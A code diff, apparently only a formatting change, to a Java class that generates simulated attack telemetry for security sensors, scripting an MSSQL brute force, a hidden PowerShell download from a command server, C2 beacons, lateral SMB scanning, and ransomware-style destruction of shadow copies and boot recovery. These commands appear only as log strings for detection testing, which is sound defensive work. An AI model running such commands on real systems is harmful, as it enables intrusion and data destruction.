@@ -68,12 +68,16 @@ final class Chain {
 
     private void guessPassword() {
         for (int failure = 0; failure < 25; failure++) {
-            database(18456, "Login failed for user 'sa'. [CLIENT: " + cast.attackers().get(0) + "]");
+            database(
+                    18456,
+                    "Login failed for user 'sa'. [CLIENT: " + cast.attackers().get(0) + "]");
             now = now.plusSeconds(2);
         }
         pool("MSSQL 登录失败爆破", Map.of("n", Integer.toString(200 + random.nextInt(600))));
         wait(1, 2);
-        database(18454, "Login succeeded for user 'sa'. [CLIENT: " + cast.attackers().get(0) + "]");
+        database(
+                18454,
+                "Login succeeded for user 'sa'. [CLIENT: " + cast.attackers().get(0) + "]");
         brain("MSSQL 爆破成功", "");
         database(15457, "Configuration option 'xp_cmdshell' changed from 0 to 1. Run the RECONFIGURE statement.");
         wait(1, 6);
@@ -85,8 +89,8 @@ final class Chain {
         wait(5, 50);
         String server = pick(cast.commandServers());
         mirror("可疑远程控制进程外联", Map.of("mode", random.nextBoolean() ? "fileless" : "file"));
-        windowsStart(new Start(
-                CMD, SHELL, "powershell.exe -nop -w hidden -c iwr http://" + server + "/a.txt", "SYSTEM"));
+        windowsStart(
+                new Start(CMD, SHELL, "powershell.exe -nop -w hidden -c iwr http://" + server + "/a.txt", "SYSTEM"));
         windowsConnection(SHELL, server, 443);
         for (int beat = 0; beat < 3; beat++) {
             pool("C2 心跳", Map.of("dst", server));
@@ -105,7 +109,8 @@ final class Chain {
                 "SYSTEM"));
         for (int neighbour = 1; neighbour <= SCANNED_NEIGHBOURS; neighbour++) {
             Flow flow = new Flow(machine.internalAddress(), machine.network() + "." + (100 + neighbour), 445);
-            journal.write(machine, Sensor.SURICATA, now.plusSeconds(neighbour / 4), SuricataLines.flow(now, flow, false));
+            journal.write(
+                    machine, Sensor.SURICATA, now.plusSeconds(neighbour / 4), SuricataLines.flow(now, flow, false));
         }
         wait(4, 15);
         brain("SMB/RDP 横向移动", "targets=\"" + (1 + random.nextInt(8)) + "\"");
@@ -117,8 +122,8 @@ final class Chain {
         windowsStart(new Start(CMD, "C:\\Windows\\System32\\taskkill.exe", "taskkill /f /im sqlservr.exe", "SYSTEM"));
         now = now.plusSeconds(30);
         mirror("删除卷影副本", Map.of());
-        windowsStart(new Start(
-                CMD, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin delete shadows /all /quiet", "SYSTEM"));
+        windowsStart(
+                new Start(CMD, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin delete shadows /all /quiet", "SYSTEM"));
         windowsStart(new Start(
                 CMD, "C:\\Windows\\System32\\bcdedit.exe", "bcdedit /set {default} recoveryenabled no", "SYSTEM"));
     }
@@ -146,10 +151,7 @@ final class Chain {
 
     private void guard(String rule, int status, String action) {
         journal.write(
-                machine,
-                Sensor.WEBSITE_GUARD,
-                now,
-                ProductLines.websiteGuard(machine, now, rule, status, action));
+                machine, Sensor.WEBSITE_GUARD, now, ProductLines.websiteGuard(machine, now, rule, status, action));
     }
 
     private void pool(String signature, Map<String, String> more) {
